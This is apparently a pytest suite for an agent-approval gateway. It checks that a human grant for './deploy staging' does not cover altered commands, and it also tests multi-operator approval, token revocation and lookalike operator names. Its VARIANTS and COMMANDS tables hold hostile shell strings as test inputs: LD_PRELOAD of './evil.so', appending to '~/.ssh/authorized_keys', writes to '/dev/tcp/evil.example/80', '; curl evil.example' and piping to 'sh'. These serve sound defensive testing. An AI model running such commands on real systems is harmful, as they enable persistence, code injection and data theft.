"""The scope of an approval over real sockets: a server, an agent's client and operators' consoles."""

from __future__ import annotations

import asyncio
from pathlib import Path
from uuid import uuid4

import pytest

from interlock.engine.gate.types import GrantTerms
from interlock.engine.gateway.client.agent import AgentSession
from interlock.engine.gateway.client.console import ConsoleClient
from interlock.engine.gateway.protocol.agent_methods import CallAnswer
from interlock.engine.history.model.state import ApprovalState

from ..served import Served, served, until

RULES = "map bash.command deploy as deploy\nrequire human-approval before deploy"
TWO = "require 2 human-approvals before deploy"
SHOWN = {"command": "./deploy staging", "cwd": "/srv"}

VARIANTS: dict[str, dict[str, object]] = {
    "a library": {**SHOWN, "command": "LD_PRELOAD=./evil.so ./deploy"},
    "a search path": {**SHOWN, "command": "PATH=.:/bin deploy"},
    "a startup file": {**SHOWN, "command": "BASH_ENV=./evil ./deploy"},
    "a variable": {**SHOWN, "command": "TARGET=prod ./deploy"},
    "written to a file": {**SHOWN, "command": "./deploy > ~/.bashrc"},
    "appended to a file": {**SHOWN, "command": "./deploy >> ~/.ssh/authorized_keys"},
    "sent to a socket": {**SHOWN, "command": "./deploy > /dev/tcp/evil.example/80"},
    "read from a file": {**SHOWN, "command": "./deploy < key"},
    "a here-string": {**SHOWN, "command": "./deploy <<< yes"},
    "a file's content": {**SHOWN, "command": './deploy "$(<key)"'},
    "a command's output": {**SHOWN, "command": "./deploy `cat key`"},
    "a process": {**SHOWN, "command": "./deploy <(cat key)"},
    "in the background": {**SHOWN, "command": "./deploy &"},
    "a field env": {**SHOWN, "env": {"LD_PRELOAD": "./evil.so"}},
    "a field cwd": {**SHOWN, "cwd": "/tmp/evil"},
    "a field stdin": {**SHOWN, "stdin": "yes"},
}

VARIABLE = "the command sets a variable"
FILE = "the command redirects to or from a file"
INPUT = "the command redirects its input"
SUBSTITUTION = "the command holds a substitution"
LAUNCHED = "the command runs a program through another one"
GROUPED = "the command has a group, a loop or a condition"
BACKGROUND = "the command runs something in the background"
UNNAMED = "the command runs more than its effects name"
UNCLEAR = "the call counts as deploy, unclear, bash"
ANOTHER = "the command runs another program"

COMMANDS: dict[str, str] = {
    "TARGET+=x ./deploy": VARIABLE,
    "export TARGET=prod; ./deploy": UNNAMED,
    "declare -x TARGET=prod && ./deploy": UNNAMED,
    "TARGET[0]=prod ./deploy": VARIABLE,
    "env TARGET=prod ./deploy": LAUNCHED,
    "read TARGET; ./deploy": UNNAMED,
    "./deploy >& log": FILE,
    "./deploy >| log": FILE,
    "./deploy <> log": UNCLEAR,
    "./deploy &> log": FILE,
    "./deploy &>> log": FILE,
    "./deploy 7>>log": FILE,
    "./deploy 7<key": FILE,
    "./deploy {fd}>log": FILE,
    "./deploy {fd}>&1": FILE,
    "> log ./deploy": FILE,
    "./deploy 2>/dev/tcp/evil.example/80": FILE,
    "./deploy >/dev/null/../log": FILE,
    './deploy <<< "yes"': INPUT,
    "./deploy <<END\nyes\nEND": INPUT,
    "./deploy >(tee log)": UNNAMED,
    "./deploy ${TARGET:-prod}": SUBSTITUTION,
    "./deploy $((1))": SUBSTITUTION,
    "./deploy & ./deploy": BACKGROUND,
    "coproc ./deploy": LAUNCHED,
    "./deploy; curl evil.example": UNNAMED,
    "cd /tmp/evil && ./deploy": UNNAMED,
    "set -a; ./deploy": UNNAMED,
    "./deploy | sh": UNCLEAR,
    "cat key | ./deploy": UNNAMED,
    "( ./deploy )": GROUPED,
    "{ ./deploy; }": GROUPED,
    "while ./deploy; do ./deploy; done": GROUPED,
    "[[ -e x ]] && ./deploy": UNNAMED,
    "deploy() { ./deploy; }": "the command defines a function",
    "! ./deploy": "the command negates its success",
    "time ./deploy": LAUNCHED,
    "nohup ./deploy": LAUNCHED,
    "strace -o log ./deploy": LAUNCHED,
    "sudo -u root ./deploy": LAUNCHED,
    "xargs ./deploy": LAUNCHED,
    "trap ./deploy EXIT": LAUNCHED,
    "sh ./deploy": ANOTHER,
    ". ./deploy": ANOTHER,
    "/tmp/evil/deploy": ANOTHER,
    "deploy": ANOTHER,
    "./deploy-evil": ANOTHER,
    "./deploy.evil": ANOTHER,
    "rm -rf ./deploy": ANOTHER,
    "cp evil ./deploy": ANOTHER,
    "./evil deploy": ANOTHER,
    "./deploy 'unended": UNCLEAR,
}
"""Commands that a grant for `./deploy staging` does not cover, and the reason in each request."""

FIELDS: dict[str, dict[str, object]] = {
    "timeout": {"timeout": 9},
    "shell": {"shell": "zsh"},
    "options": {"options": {"env": {"PATH": "."}}},
    "cwd": {"cwd": ["/srv"]},
    "env, stdin": {"env": {}, "stdin": ""},
}

PLAIN = (
    "./deploy staging",
    "./deploy prod --force",
    "./deploy 'a b' \"c\" * ~/x",
    "./deploy staging 2>&1",
    "./deploy staging >/dev/null 2>/dev/null",
    "./deploy staging &>/dev/null </dev/null",
    "./deploy a && ./deploy b || ./deploy c; ./deploy d",
    "./deploy a | ./deploy b",
    "'./deploy' staging  # as before",
)


async def request(console: ConsoleClient, known: set[str] | None = None) -> ApprovalState:
    """Return the one request in a console's queue that is not in `known`."""

    async def found() -> list[ApprovalState]:
        return [each for each in await console.approvals() if each.id not in (known or set())]

    [asked] = await until(found)
    return asked


async def granted(server: Served, gate: AgentSession, console: ConsoleClient) -> None:
    """Approve a call with a grant for the next 20 calls of bash that count as deploy and nothing else."""
    call = asyncio.ensure_future(gate.call("bash", SHOWN, call_id="first"))
    asked = await request(console)
    terms = GrantTerms("names", uses=20)
    outcome = await console.decide(
        asked.id, approved=True, digest=asked.digest, grant=terms, reason="often"
    )
    assert outcome.ok, outcome.message
    answer = await asyncio.wait_for(call, 10)
    assert (answer.outcome, answer.approved_by) == ("allow", ("ada",))


class TestGrant:
    @pytest.mark.slow
    async def test_none_of_sixteen_variants_passes(self, tmp_path: Path) -> None:
        """Each variant is queued as it is, while calls that the grant covers pass in between."""
        async with (
            served(tmp_path, rules=RULES) as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            gate = await client.open("bot")
            await granted(server, gate, console)
            passed: list[str] = []
            for name, value in VARIANTS.items():
                again = await asyncio.wait_for(gate.call("bash", SHOWN, call_id=f"before {name}"), 10)
                assert (again.outcome, again.approved_by) == ("allow", ())
                answer = await gate.call("bash", value, call_id=name, wait=0.05)
                if answer.outcome != "waiting":
                    passed.append(name)
                    continue
                asked = await request(console)
                assert asked.input == value
                assert asked.exact_only is not None or "command" in name or "field" in name
                await console.decide(asked.id, approved=False, digest=asked.digest)
                last = await asyncio.wait_for(gate.call("bash", value, call_id=name), 10)
                assert last.outcome == "block"
            assert passed == []
            assert len(VARIANTS) == 16

    @pytest.mark.slow
    async def test_call_outside_the_grant_gets_a_reason(self, tmp_path: Path) -> None:
        """A call outside the grant is queued, and its request gives the reason."""
        async with (
            served(tmp_path, rules=f"{RULES}\nallow unclear bash") as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            gate = await client.open("bot")
            await granted(server, gate, console)
            calls = {text: ({**SHOWN, "command": text}, why) for text, why in COMMANDS.items()}
            calls |= {
                name: ({**SHOWN, **more}, f"another value in {name}") for name, more in FIELDS.items()
            }
            calls["no cwd"] = ({"command": "./deploy staging"}, "another value in cwd")
            said: dict[str, str | None] = {}
            known: set[str] = set()
            for name, (value, _) in calls.items():
                answer = await gate.call("bash", value, call_id=uuid4().hex, wait=0.01)
                assert answer.outcome == "waiting", name
                asked = await request(console, known)
                said[name] = asked.beyond
                await console.decide(asked.id, approved=False, digest=asked.digest)
                known.add(asked.id)
            assert said == {
                name: f"grant-1 does not cover this call: {why}" for name, (_, why) in calls.items()
            }

    @pytest.mark.slow
    async def test_equivalent_program_passes(self, tmp_path: Path) -> None:
        """The same program passes with other words, other streams and `/dev/null`, 20 times in all."""
        async with (
            served(tmp_path, rules=RULES) as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            gate = await client.open("bot", shell="bash")
            await granted(server, gate, console)
            for text in PLAIN + ("./deploy staging",) * (20 - len(PLAIN)):
                answer = await gate.call("bash", {**SHOWN, "command": text}, call_id=uuid4().hex, wait=5)
                assert (answer.outcome, answer.approved_by) == ("allow", ()), text
            last = await gate.call("bash", SHOWN, call_id="one too many", wait=0.01)
            assert last.outcome == "waiting"
            asked = await request(console)
            assert asked.beyond == ("grant-1 does not cover this call: it is used up or its time is over")

    @pytest.mark.slow
    async def test_other_text_with_same_effects_passes(self, tmp_path: Path) -> None:
        """Another command text passes if its effects are the same."""
        async with (
            served(tmp_path, rules=RULES) as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            gate = await client.open("bot")
            await granted(server, gate, console)
            other = {**SHOWN, "command": "./deploy staging --fast 2>&1"}
            answer = await asyncio.wait_for(gate.call("bash", other, call_id="c2"), 10)
            assert (answer.outcome, answer.approved_by) == ("allow", ())

    @pytest.mark.slow
    async def test_edit_that_changes_effects_is_refused(self, tmp_path: Path) -> None:
        """A grant with an edit that changes the effects is refused; the request stays open."""
        rules = f"map bash.command rm as delete\n{RULES}\nrequire human-approval before delete"
        async with (
            served(tmp_path, rules=rules) as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            gate = await client.open("bot")
            call = asyncio.ensure_future(gate.call("bash", SHOWN, call_id="c1"))
            asked = await request(console)
            for scope in ("names", "input"):
                outcome = await console.decide(
                    asked.id,
                    approved=True,
                    digest=asked.digest,
                    input={"command": "rm -rf x"},
                    reason="often",
                    grant=GrantTerms(scope),  # type: ignore[arg-type]
                )
                assert not outcome.ok
                assert "the edit changes what the call counts as" in outcome.message
            assert (await request(console)).id == asked.id
            await console.decide(asked.id, approved=False, digest=asked.digest)
            assert (await asyncio.wait_for(call, 10)).outcome == "block"

    @pytest.mark.slow
    async def test_changed_maps_end_the_grant(self, tmp_path: Path) -> None:
        """A grant ends with a change of the maps, and the old maps do not revive it."""
        asking: list[str] = []
        for turn, rules in enumerate((RULES, f"map bash.command ls as list\n{RULES}", RULES)):
            async with (
                served(tmp_path, rules=rules) as server,
                server.agent_client() as client,
                server.console() as console,
            ):
                if turn == 0:
                    gate = await client.open("bot", session="kept")
                    await granted(server, gate, console)
                    continue
                gate = await client.resume("kept")
                answer = await gate.call("bash", SHOWN, call_id=f"turn {turn}", wait=0.05)
                asking.append(answer.outcome)
                [state] = await console.sessions()
                assert not state.grants["grant-1"].net.active
        assert asking == ["waiting", "waiting"]

    @pytest.mark.slow
    async def test_grant_survives_a_restart(self, tmp_path: Path) -> None:
        """A grant survives a restart with the same maps, and covers only the shown fields."""
        async with (
            served(tmp_path, rules=RULES) as server,
            server.agent_client() as client,
            server.console() as console,
        ):
            await granted(server, await client.open("bot", session="kept"), console)
        async with served(tmp_path, rules=RULES) as server, server.agent_client() as client:
            gate = await client.resume("kept")
            assert (await gate.call("bash", SHOWN, call_id="c2")).outcome == "allow"
            other = {**SHOWN, "cwd": "/tmp"}
            assert (await gate.call("bash", other, call_id="c3", wait=0.05)).outcome == "waiting"


class TestEdit:
    async def test_edit_survives_a_change_of_rules(self, tmp_path: Path) -> None:
        """G-75: ada's edit to `staging` survives a change of rules, and two others approve it."""
        async with served(tmp_path, rules=f"{TWO}\nblock rm") as server:
            cy = server.tokens.issue("operator", "cy")
            async with (
                server.agent_client() as client,
                server.console() as ada,
                server.console(server.ben) as ben,
                server.console(cy) as third,
            ):
                gate = await client.open("bot", session="kept")
                call = asyncio.ensure_future(gate.call("deploy", {"env": "prod"}, call_id="c1"))
                asked = await request(ada)
                chosen = {"env": "staging"}
                assert (await ada.decide(asked.id, approved=True, digest=asked.digest, input=chosen)).ok
                known = {asked.id}
                for active in (False, True):
                    asked = await request(ben, known)
                    known.add(asked.id)
                    off = await ben.toggle_net("kept", "block-rm", active, reason="for now")
                    assert off.ok, off.message
                for console in (ben, third):
                    asked = await request(console, known - {asked.id} if console is third else known)
                    known.add(asked.id)
                    assert (asked.input, asked.original) == (chosen, {"env": "prod"})
                    assert asked.edited_by == "ada"
                    assert (await console.decide(asked.id, approved=True, digest=asked.digest)).ok
                answer = await asyncio.wait_for(call, 10)
                assert (answer.outcome, answer.input, answer.edited) == ("allow", chosen, True)
                assert answer.approved_by == ("ben", "cy")

    @pytest.mark.slow
    async def test_edit_survives_a_restart(self, tmp_path: Path) -> None:
        """G-75: after a restart the request for an edited call shows the edit."""
        chosen = {"env": "staging"}
        async with (
            served(tmp_path, rules=TWO) as server,
            server.agent_client() as client,
            server.console() as ada,
        ):
            gate = await client.open("bot", session="kept")
            first = await gate.call("deploy", {"env": "prod"}, call_id="c1", wait=0.05)
            assert first.outcome == "waiting"
            asked = await request(ada)
            assert (await ada.decide(asked.id, approved=True, digest=asked.digest, input=chosen)).ok
            await request(ada, {asked.id})
        async with (
            served(tmp_path, rules=TWO) as server,
            server.agent_client() as client,
            server.console() as ada,
        ):
            gate = await client.resume("kept")
            again = await gate.call("deploy", {"env": "prod"}, call_id="c1", wait=0.05)
            assert again.outcome == "waiting"
            asked = await request(ada)
            assert (asked.input, asked.original) == (chosen, {"env": "prod"})
            assert asked.edited_by == "ada"


class TestPeople:
    async def call(self, gate: AgentSession) -> asyncio.Task[CallAnswer]:
        return asyncio.ensure_future(gate.call("deploy", {"env": "prod"}, call_id="c1"))

    async def test_agents_owner_cannot_approve(self, tmp_path: Path) -> None:
        """The owner of the agent's token cannot approve the agent's calls."""
        async with served(tmp_path, rules=TWO) as server:
            mine = server.tokens.issue("agent", "adas bot", "Ada")
            async with server.agent_client(mine) as client, server.console() as console:
                waits = await self.call(await client.open("bot"))
                asked = await request(console)
                own = await console.decide(asked.id, approved=True, digest=asked.digest)
                assert (own.ok, own.message) == (
                    False,
                    "ada owns the token of this agent: 2 other people must approve",
                )
                waits.cancel()

    @pytest.mark.slow
    async def test_revoked_token_voids_the_first_approval(self, tmp_path: Path) -> None:
        """The first of two approvals no longer counts if its token is revoked."""
        async with served(tmp_path, rules=TWO) as server:
            jo = server.tokens.issue("operator", "jo")
            async with (
                server.agent_client() as client,
                server.console() as ada,
                server.console(server.ben) as ben,
                server.console(jo) as third,
            ):
                waits = await self.call(await client.open("bot"))
                asked = await request(ben)
                assert (await ada.decide(asked.id, approved=True, digest=asked.digest)).ok
                server.tokens.revoke("ada")
                second = await ben.decide(asked.id, approved=True, digest=asked.digest)
                assert not second.ok
                assert "the token of ada is no longer in force" in second.message
                again = await request(ben, {asked.id})
                assert again.given == ()
                for console in (ben, third):
                    assert (await console.decide(again.id, approved=True, digest=again.digest)).ok
                answer = await asyncio.wait_for(waits, 10)
                assert (answer.outcome, answer.approved_by) == ("allow", ("ben", "jo"))

    @pytest.mark.slow
    async def test_longer_deadline_takes_two_other_operators(self, tmp_path: Path) -> None:
        """A longer deadline than the rule's takes two operators other than the agent's owner."""
        async with served(tmp_path, rules=f"{TWO} within 10m") as server:
            mine = server.tokens.issue("agent", "adas bot", "ADA")
            jo = server.tokens.issue("operator", "jo")
            async with (
                server.agent_client(mine) as client,
                server.console() as ada,
                server.console(server.ben) as ben,
                server.console(jo) as third,
            ):
                waits = await self.call(await client.open("bot"))
                asked = await request(ben)

                async def now() -> ApprovalState:
                    [found] = await server.hub.approvals()
                    return found

                own = await ada.extend(asked.id, seconds=7200)
                assert (own.ok, own.message) == (
                    False,
                    "ada owns the token of this agent: two other people must extend this request",
                )
                for _ in range(2):
                    assert (await ben.extend(asked.id, seconds=7200)).ok
                    assert (await now()).expires == asked.expires
                extension = (await now()).extension
                assert extension is not None
                assert extension.by == "ben"
                server.tokens.revoke("ben")
                assert (await third.extend(asked.id, seconds=7200)).ok
                assert (await now()).expires == asked.expires
                waits.cancel()

    @pytest.mark.parametrize("name", ["ADA", "аda"])
    async def test_confusable_operator_name_gets_no_token(self, tmp_path: Path, name: str) -> None:
        """A name that equals an operator's name or looks like it gets no second token."""
        async with served(tmp_path, rules=TWO) as server:
            with pytest.raises(ValueError, match="easily taken for 'ada'"):
                server.tokens.issue("operator", name)
